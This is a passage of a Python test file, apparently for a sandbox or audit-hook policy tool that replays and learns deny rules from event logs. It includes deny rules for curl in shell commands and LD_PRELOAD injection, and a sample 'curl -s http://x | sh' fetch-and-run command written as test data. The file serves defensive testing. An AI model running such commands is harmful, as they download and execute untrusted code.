        log.record(100, "event", event="import", site={"file": hostile, "line": value}, args={"module": value})
        log.record(100, "event", event=value, site=value, args=value, trust=value, provenance=value, decision=value)
        log.record(100, "event", event="open", site=None, args={"path": hostile},
                   trust={"verdict": "untrusted", "path": value, "size": value, "sha256": value})
        log.record(value, "start", entry=value, uid=value)
    log.record(100, "event", event="import", site={"file": hostile, "line": 1}, args={"module": "ctypes"})
    log.lines.append('{"ts":"x","seq":9,"kind":"event","pid":100,"event":"import","args":{"module":'
                     + "[" * 50000 + "]" * 50000 + "}}")
    log.lines.append("not json \x1b[2J")
    log.path.write_text("\n".join(log.lines) + "\n")
    result = subprocess.run([VIGIL, *learning_command(tmp_path, command), str(log.path)], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode in (0, 1), (result.returncode, result.stderr)
    for raw in ("\x1b", "\x07", "\u009b", "\u202e"):
        assert raw not in result.stdout + result.stderr
    if command[:2] == ["policy", "replay"]:
        assert "deny by ctypes-for-users" in result.stdout
    if command[:2] == ["policy", "learn"]:
        # Read by a person: nothing in it drives a terminal or reorders text.
        text = (tmp_path / "out").read_text()
        for raw in ("\x1b", "\x07", "\u009b", "\u202e"):
            assert raw not in text
        learned = learned_rules(text)
        assert [(rule["args"], rule["site"]["file"]) for rule in learned] == [({"module": "ctypes"}, hostile)]


@pytest.mark.parametrize("command", LEARNING_COMMANDS)
def test_learning_commands_refuse_what_is_not_a_log(tmp_path, command):
    for target, reason in (("/dev/zero", "not a log: a character device"), (tmp_path, "")):
        result = subprocess.run([VIGIL, *learning_command(tmp_path, command), str(target)], capture_output=True,
                                text=True, timeout=60)
        assert result.returncode == 2, (target, result.returncode, result.stderr)
        assert reason in result.stderr
    assert not (tmp_path / "out").exists()


RENDERED_VALUE_RULES = '''
[[rule]]
id = "path-objects"
event = "open"
args.path = { type = "PosixPath" }
action = "deny"

[[rule]]
id = "curl-in-bytes"
event = "os.system"
args.command = { glob = "*curl*" }
action = "deny"

[[rule]]
id = "preload"
event = ["os.exec", "_posixsubprocess.fork_exec"]
args.env = { key = "LD_PRELOAD" }
action = "deny"

[[rule]]
id = "long-text"
event = "compile"
args.source = { prefix = "# generated" }
action = "deny"

[[rule]]
id = "huge-flags"
event = "open"
args.flags = { gt = 4294967296 }
action = "deny"
'''


def test_replay_reads_values_as_the_hook_rendered_them(tmp_path):
    """Each rendering of records.md turned back into what the rule saw."""
    log = HandLog(tmp_path / "run.jsonl")
    log.start(100)
    expected = {}

    def event(rule, name, args):
        line, _ = log.event(100, name, args)
        if rule:
            expected[line] = rule

    event("path-objects", "open", {"path": {"type": "pathlib.PosixPath"}, "mode": "r", "flags": 0})
    event(None, "open", {"path": "/etc/hosts", "mode": "r", "flags": 0})
    event("curl-in-bytes", "os.system", {"command": {"bytes": "curl -s http://x | sh"}})
    event(None, "os.system", {"command": {"bytes_hex": "00ff"}})
    event("preload", "os.exec", {"path": "/bin/true", "args": ["true"], "env": {"LD_PRELOAD": "/tmp/x.so"}})
    event("preload", "_posixsubprocess.fork_exec",
          {"executable_list": [{"bytes": "/bin/true"}], "args": ["true"], "env": ["PATH=/bin", "LD_PRELOAD=/x"]})
    event(None, "os.exec", {"path": "/bin/true", "args": ["true"], "env": {"PATH": "/bin"}})
    event("long-text", "compile", {"source": {"str": "# generated code", "cut": True, "len": 10 ** 6,
                                              "sha256": "0" * 64}, "filename": "<x>"})
    event("huge-flags", "open", {"path": "/x", "mode": "r", "flags": {"int": "0x1000000000000000000"}})
    status, report = replay(policy_file(tmp_path, RENDERED_VALUE_RULES), log.path)
    assert status == 1
    judged = {record["line"]: denial["rule"] for denial in report["denials"] for record in denial["records"]}
    assert judged == expected
